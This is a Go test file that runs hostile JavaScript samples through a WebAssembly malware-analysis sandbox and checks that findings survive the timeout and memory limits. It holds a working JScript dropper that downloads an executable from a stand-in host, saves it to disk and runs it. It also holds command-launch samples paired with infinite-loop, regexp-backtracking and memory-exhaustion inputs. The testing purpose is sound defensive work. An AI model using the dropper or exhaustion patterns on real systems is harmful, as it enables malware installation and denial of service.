// Package wasmtest runs the built sandbox.wasm under the real wasm runtime service, with its
// deadline and memory cap: the double sandbox (interpreter inside WASM) as production runs it.
package wasmtest

import (
	"context"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/athena-mesh/athena/internal/testutil"
	analysisv1 "github.com/athena-mesh/athena/proto/gen/athena/analysis/v1"
	modulev1 "github.com/athena-mesh/athena/proto/gen/athena/module/v1"
	wasmruntimev1 "github.com/athena-mesh/athena/proto/gen/athena/wasmruntime/v1"
	"github.com/athena-mesh/athena/services/wasmruntime"
)

// newRuntime loads only sandbox.wasm (other modules are not this test's concern) with a 256 MiB
// memory cap.
func newRuntime(t *testing.T) *wasmruntime.Runtime { return newRuntimeTB(t) }

func newRuntimeTB(t testing.TB) *wasmruntime.Runtime {
	t.Helper()
	src := filepath.Join(testutil.ModulesDir(t), "sandbox.wasm")
	b, err := os.ReadFile(src)
	if err != nil {
		t.Fatalf("read module: %v (run `make wasm`)", err)
	}
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "sandbox.wasm"), b, 0o644); err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	rt, err := wasmruntime.New(ctx, wasmruntime.Config{
		ModulesDir: dir,
		Limits:     wasmruntime.Limits{Timeout: 120 * time.Second, MemoryPages: 4096},
		PoolSize:   1,
	})
	if err != nil {
		t.Fatalf("wasmruntime.New: %v", err)
	}
	t.Cleanup(func() { rt.Close(context.Background()) })
	return rt
}

func invoke(t *testing.T, rt *wasmruntime.Runtime, timeout time.Duration, src string, opts map[string]string) *wasmruntimev1.InvokeResponse {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), timeout)
	defer cancel()
	resp, err := rt.Invoke(ctx, "sandbox", &modulev1.AnalyzeRequest{Content: []byte(src), FileType: "javascript", Filename: "s.js", Options: opts})
	if err != nil {
		t.Fatalf("Invoke: %v", err)
	}
	return resp
}

func hasFinding(r *modulev1.AnalyzeResponse, id string) bool {
	for _, f := range r.GetFindings() {
		if f.GetId() == id {
			return true
		}
	}
	return false
}

const dropper = `var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://next.example/p.exe", false); x.send();
var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Write(x.responseBody); s.SaveToFile("C:\\p.exe", 2);
new ActiveXObject("WScript.Shell").Run("C:\\p.exe");`

func TestHostileScriptsUnderTheRuntime(t *testing.T) {
	rt := newRuntime(t)
	tests := []struct {
		name       string
		src        string
		timeout    time.Duration
		wantStatus analysisv1.ModuleStatus
		want       []string // finding ids that must survive
	}{
		{
			// Instrumented loop: the guest stops itself at its budget and answers normally.
			name: "infinite loop", timeout: 3 * time.Second,
			src:        `new ActiveXObject("WScript.Shell").Run("calc.exe"); while (true) {}`,
			wantStatus: analysisv1.ModuleStatus_MODULE_STATUS_OK,
			want:       []string{"sandbox.run_command", "sandbox.budget_exceeded"},
		},
		{
			// One builtin call that never returns to instrumented code (catastrophic
			// backtracking in regexp2): only the host's deadline stops it, and the command
			// recorded before survives because it was emitted.
			name: "uninterruptible builtin", timeout: 3 * time.Second,
			src:        `new ActiveXObject("WScript.Shell").Run("calc.exe"); /^(?=(a+)+b)/.test("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa");`,
			wantStatus: analysisv1.ModuleStatus_MODULE_STATUS_DEADLINE_EXCEEDED,
			want:       []string{"sandbox.run_command"},
		},
		{
			// A gigabyte in one call is refused inside the guest.
			name: "gigabyte repeat", timeout: 10 * time.Second,
			src:        `new ActiveXObject("WScript.Shell").Run("calc.exe"); var s = "A".repeat(1 << 30);`,
			wantStatus: analysisv1.ModuleStatus_MODULE_STATUS_OK,
			want:       []string{"sandbox.run_command", "sandbox.resource_limit"},
		},
		{
			// Doubling a string reaches a gigabyte in 30 steps: the memory cap stops it.
			name: "doubling string", timeout: 10 * time.Second,
			src:        `new ActiveXObject("WScript.Shell").Run("calc.exe"); var s = "A"; for (;;) s += s + "B";`,
			wantStatus: analysisv1.ModuleStatus_MODULE_STATUS_RESOURCE_EXHAUSTED,
			want:       []string{"sandbox.run_command"},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := invoke(t, rt, tc.timeout, tc.src, nil)
			if got.GetStatus() != tc.wantStatus {
				t.Errorf("status = %v (%s), want %v", got.GetStatus(), got.GetError(), tc.wantStatus)
			}
			for _, id := range tc.want {
				if !hasFinding(got.GetResponse(), id) {
					t.Errorf("finding %s lost; have %v", id, got.GetResponse().GetFindings())
				}
			}
			// The next analysis runs normally on the same runtime.
			next := invoke(t, rt, 10*time.Second, dropper, map[string]string{"http_status": "200"})
			if next.GetStatus() != analysisv1.ModuleStatus_MODULE_STATUS_OK || !hasFinding(next.GetResponse(), "sandbox.dropper") {
				t.Errorf("next analysis: status %v (%s), findings %v", next.GetStatus(), next.GetError(), next.GetResponse().GetFindings())
			}
		})
	}
}
